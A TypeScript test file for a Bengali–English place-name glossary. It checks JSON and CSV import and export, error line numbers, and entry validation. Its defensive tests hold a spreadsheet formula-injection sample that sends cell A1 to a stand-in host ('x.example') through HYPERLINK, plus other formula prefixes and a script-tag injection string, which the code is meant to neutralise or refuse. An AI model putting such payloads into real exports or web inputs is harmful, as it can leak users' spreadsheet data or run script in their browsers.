import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  exportGlossaryCsv,
  exportGlossaryJson,
  importGlossary,
  importGlossaryCsv,
  importGlossaryJson,
  parseCsvRecords,
} from '../../../core/glossary/io';
import { checkGlossaryEntry } from '../../../core/glossary/validate';
import { bengaliDigits } from '../../../core/bengali/digits';
import type { GlossaryEntry } from '../../../core/glossary/types';

const place = (i: number): GlossaryEntry => ({ bn: `ঢাকা ${bengaliDigits(i)}`, variants: [], en: `Dhaka ${i}`, type: 'place' });

describe('glossary JSON line numbers', () => {
  test('problems deep in a large file are named by their own line, in each layout', () => {
    const entries = Array.from({ length: 3000 }, (_, i) => place(i));
    // Indented, as another tool or a person writes it: the entry starts on the line of its opening brace.
    const indented = JSON.stringify({ entries }, null, 2);
    const lines = indented.split('\n');
    const at = lines.findIndex((l) => l.includes('"Dhaka 2500"'));
    const opening = lines.slice(0, at).lastIndexOf('    {') + 1;
    const r = importGlossaryJson(indented.replace('"Dhaka 2500"', '""'));
    assert.ok(!r.ok);
    assert.match(r.error.detail!, new RegExp(`^line ${opening}: the English name`));
    // As this app writes it, one entry a line after the opening one.
    const own = exportGlossaryJson(entries);
    assert.equal(own.split('\n').length, 3000 + 3);
    const o = importGlossaryJson(own.replace('"Dhaka 2500"', '""'));
    assert.ok(!o.ok);
    assert.match(o.error.detail!, /^line 2502: the English name/);
    const compact = `[${entries.map((e, i) => (i === 2999 ? '\n{"bn": "ইরাক"}' : JSON.stringify(e))).join(',\n')}]`;
    const c = importGlossaryJson(compact);
    assert.ok(!c.ok);
    assert.match(c.error.detail!, /^line 3001: the English name/);
  });

  test("the app's own layout reads back exactly, and an empty glossary is a file too", () => {
    const entries: GlossaryEntry[] = [
      { ...place(1), variants: ['ঢাকার'], aliases: ['Dacca'], note: 'রাজধানী, "শহর"\nদুই লাইন', foreign: false },
      place(2),
    ];
    assert.deepEqual(importGlossaryJson(exportGlossaryJson(entries)), { ok: true, value: entries });
    assert.deepEqual(importGlossaryJson(exportGlossaryJson([])), { ok: true, value: [] });
  });
});

describe('glossary CSV and spreadsheet formulas', () => {
  const risky: GlossaryEntry[] = [
    { bn: 'ঢাকা', variants: [], en: 'Dhaka', type: 'place', note: '=HYPERLINK("http://x.example/?"&A1,"Click")' },
    { bn: 'খুলনা', variants: [], en: 'Khulna', type: 'place', note: '+1 234' },
    { bn: 'সিলেট', variants: [], en: 'Sylhet', type: 'place', note: '-2+3' },
    { bn: 'রাজশাহী', variants: [], en: 'Rajshahi', type: 'place', note: '@SUM(A1:A9)' },
    { bn: 'বরিশাল', variants: [], en: 'Barishal', type: 'place', note: "'=already quoted" },
    { bn: 'রংপুর', variants: [], en: 'Rangpur', type: 'place', note: "''-twice" },
    { bn: 'ময়মনসিংহ', variants: [], en: 'Mymensingh', type: 'place', note: "it's fine = not a formula" },
  ];

  test('no exported cell starts with = + - @ or a tab or carriage return; the import reads back exactly what went out', () => {
    const csv = exportGlossaryCsv(risky);
    const records = parseCsvRecords(csv);
    assert.ok(records.ok);
    const cells = records.value.slice(1).map((r) => r.fields[5]!);
    for (const field of records.value.flatMap((r) => r.fields)) assert.doesNotMatch(field, /^[=+\-@\t\r]/, field);
    assert.equal(cells[0], `'=HYPERLINK("http://x.example/?"&A1,"Click")`);
    assert.equal(cells[4], "''=already quoted");
    assert.equal(cells[6], "it's fine = not a formula");
    const back = importGlossaryCsv(csv);
    assert.ok(back.ok, back.ok ? '' : back.error.detail);
    assert.deepEqual(back.value, risky);
  });
});

describe("every import applies the bridge's checks", () => {
  const valid = { bn: 'ঢাকা', variants: [], en: 'Dhaka', type: 'place' };
  const refused: [string, unknown][] = [
    ['an English name in Bengali letters', { ...valid, en: 'ঢাকা' }],
    ['markup in the English name', { ...valid, en: 'Dhaka<script>alert(1)</script>' }],
    ['markup in a variant', { ...valid, variants: ['ঢাকা<b>'] }],
    ['Latin letters in the Bengali spelling', { ...valid, bn: 'ঢাকাx' }],
    ['a spelling longer than 150 characters', { ...valid, bn: 'ঢ'.repeat(151) }],
    ['an alias that is no name', { ...valid, aliases: ['=1+1'] }],
    ['more than 50 variants', { ...valid, variants: Array.from({ length: 51 }, (_, i) => `ঢাকা${'া'.repeat(i)}`) }],
    ['a note longer than 500 characters', { ...valid, note: 'ক'.repeat(501) }],
    ['a field the entry does not have', { ...valid, script: 'x' }],
    ['foreign that is not true or false', { ...valid, foreign: 'yes' }],
  ];

  test('the validator refuses what the bridge refuses, and keeps foreign', () => {
    for (const [what, raw] of refused) assert.equal(checkGlossaryEntry(raw).ok, false, what);
    assert.deepEqual(checkGlossaryEntry({ ...valid, en: " O'Brien & Sons (Dhaka) ", foreign: false }), {
      ok: true,
      entry: { bn: 'ঢাকা', variants: [], en: "O'Brien & Sons (Dhaka)", type: 'place', foreign: false },
    });
  });

  test('JSON and CSV imports refuse each of them, with its line', () => {
    for (const [what, raw] of refused) {
      const json = importGlossary('x.json', JSON.stringify([{ ...valid, bn: 'খুলনা' }, raw], null, 1));
      assert.ok(!json.ok, `JSON: ${what}`);
      assert.match(json.error.detail!, /^line 8: /, `JSON: ${what}`);
    }
    const csv = [
      'bn,en,type,variants,aliases',
      'খুলনা,Khulna,place,,',
      'ঢাকা,ঢাকা,place,,',
      'সিলেট,Sylhet<i>,place,,',
      'বরিশাল,Barishal,place,বরিশাল<b>,',
      "রংপুর,Rangpur,place,,'=1+1",
    ].join('\n');
    const r = importGlossaryCsv(csv);
    assert.ok(!r.ok);
    assert.match(r.error.detail!, /line 3: "ঢাকা" is not an English name in Latin letters/);
    assert.match(r.error.detail!, /line 4: "Sylhet<i>" is not an English name/);
    assert.match(r.error.detail!, /line 5: "বরিশাল<b>" is not a Bengali spelling/);
    assert.match(r.error.detail!, /line 6: "=1\+1" is not a name/);
  });

  test("the app's own file keeps an entry that looser, older rules took", () => {
    const loose = [{ ...valid, en: 'Yahoo!', note: 'ক'.repeat(600), foreign: false }];
    assert.ok(!importGlossaryJson(JSON.stringify(loose)).ok, 'as an import, refused');
    assert.deepEqual(importGlossaryJson(JSON.stringify({ entries: loose }), 'stored'), { ok: true, value: loose });
  });
});
